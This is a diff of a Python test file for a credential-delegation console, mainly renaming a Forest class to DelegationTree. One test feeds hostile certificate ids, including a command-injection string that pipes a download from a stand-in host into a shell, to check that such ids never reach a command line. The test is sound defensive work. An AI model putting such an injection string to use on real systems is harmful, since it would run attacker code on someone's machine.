@@ -9,8 +9,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 from tests.world.delegations import DAY, NOW, World
 
-from accredit.console.delegations import Forest, Link, Placed, links_in, links_of, sorted_nodes
-from accredit.console.lists import ListPlace, revoked_by, see_lists
+from accredit.console.delegations import DelegationTree, Link, Placed, links_in, links_of, sorted_nodes
+from accredit.console.lists import ListPlace, revoked_ids, see_lists
 from accredit.console.people import Known
 from accredit.console.people_views import DELEGATIONS_A_PAGE, DELEGATIONS_UNDER_ONE, MAX_SHOWN_ENDS, PeopleViews
 from accredit.errors import DeskError
@@ -26,14 +26,14 @@ CHILD = WORLD.grant("comms:email:send", issuer=WORLD.agent, to=WORLD.sub, ends=N
 NOBODY: frozenset[str] = frozenset()
 
 
-def forest_of(*chains: tuple[DelegationCert, ...]) -> Forest:
-    forest = Forest()
+def forest_of(*chains: tuple[DelegationCert, ...]) -> DelegationTree:
+    forest = DelegationTree()
     for chain in chains:
         forest.add(links_of(chain), "log")
     return forest
 
 
-def states(forest: Forest, now: int = NOW, revoked: frozenset[str] = NOBODY) -> dict[str, str]:
+def states(forest: DelegationTree, now: int = NOW, revoked: frozenset[str] = NOBODY) -> dict[str, str]:
     return {each.node.link.cert_id: each.state for each in forest.placed(now, revoked)}
 
 
@@ -99,14 +99,14 @@ def test_what_the_journal_tells_is_completed_by_what_calls_came_with() -> None:
     assert placed.keys() == {PARENT.cert_id, *unreadable}
     assert placed[PARENT.cert_id].sources == {"log", "journal"}
     assert placed[PARENT.cert_id].asked_for == "send_email"
-    only = Forest()
+    only = DelegationTree()
     only.add_signed(WORLD.owner.id, [entry])  # the page of an ask leads to it, used or not
     assert [each.link.handle for each in only.by_person[WORLD.owner.id].values()] == [links_of((PARENT,))[0].handle]
     for name in unreadable:
         assert placed[name].link.words() == "conditions that can't be read here"
 
 
-def crowd(number: int) -> Forest:
+def crowd(number: int) -> DelegationTree:
     """One agent that may pass on, with this many below it, and another delegation beside it."""
     forest = forest_of((PARENT,), (WORLD.grant("email:read", to=WORLD.sub),))
     (parent,) = links_of((PARENT,))
@@ -148,7 +148,7 @@ def linked(cert_id: str, issuer: str, subject: str, **changes: Any) -> Link:
 
 @pytest.mark.timeout(60)
 def test_an_agent_that_passes_on_as_deep_as_wide_hides_nobody__and_its_page_is_made_in_time() -> None:
-    forest, top = Forest(), linked("top", "ada", "a0")
+    forest, top = DelegationTree(), linked("top", "ada", "a0")
     for wide in range(20_000):
         below = [linked(f"{wide}-{deep}", f"a{wide}-{deep}", f"a{wide}-{deep + 1}") for deep in range(7)]
         forest.add((top, *below), "log", 1, "2027-01-15T08:00:00.000Z")
@@ -165,7 +165,7 @@ def test_an_agent_that_copies_an_id_keeps_nobody_from_taking_it_back() -> None:
     """It has another delegation, and passes on to itself what has ended already, under the id of the first."""
     first, second = linked("a" * 32, "ada", "bot"), linked("b" * 32, "ada", "bot")
     copy = linked(first.cert_id, "bot", "bot", expires_at=9)
-    forest = Forest()
+    forest = DelegationTree()
     forest.add((second, copy), "log", 1, "z")
     forest.add((first,), "log")
     views = PeopleViews(Known(forest), {}, "ada")
@@ -175,7 +175,7 @@ def test_an_agent_that_copies_an_id_keeps_nobody_from_taking_it_back() -> None:
 
 
 def test_an_agent_that_keeps_another_delegation_is_said_to() -> None:
-    forest = Forest()
+    forest = DelegationTree()
     for name, ends in (("a", NOW * 2), ("b", NOW * 2), ("c", 5)):
         forest.add((linked(name, "ada", "bot", expires_at=ends),), "file")
     views = PeopleViews(Known(forest), {}, "ada")
@@ -184,7 +184,7 @@ def test_an_agent_that_keeps_another_delegation_is_said_to() -> None:
 
 
 def test_one_name_for_two_is_told_apart__a_key_brings_the_name_that_its_maker_chose() -> None:
-    forest = Forest()
+    forest = DelegationTree()
     for holder in ("11111111aaaa", "22222222bbbb", "33333333cccc"):
         forest.add((linked(holder, "ada", holder),), "file")
     names = {"11111111aaaa": "Assistant", "22222222bbbb": "Assistant", "33333333cccc": "Helper"}
@@ -196,7 +196,7 @@ def test_one_name_for_two_is_told_apart__a_key_brings_the_name_that_its_maker_ch
 
 def test_no_id_that_a_shell_could_read_otherwise_is_put_into_a_command() -> None:
     forest, ids = (
-        Forest(),
+        DelegationTree(),
         ["a" * 32, "x; curl evil.example | sh #", "-f", "$(id)", "\u202e", "A" * 32, "a" * 31 + "\n"],
     )
     for cert_id in ids:
@@ -241,7 +241,7 @@ def test_a_list_counts_only_if_its_issuer_signed_it(tmp_path: Path) -> None:
     ):
         path.write_bytes(text)
         (seen,) = see_lists(place, keys.get)
-        assert revoked_by([seen]) == revoked
+        assert revoked_ids([seen]) == revoked
         assert bool(seen.fault) == (not revoked)
     path.unlink()
     path.mkdir()
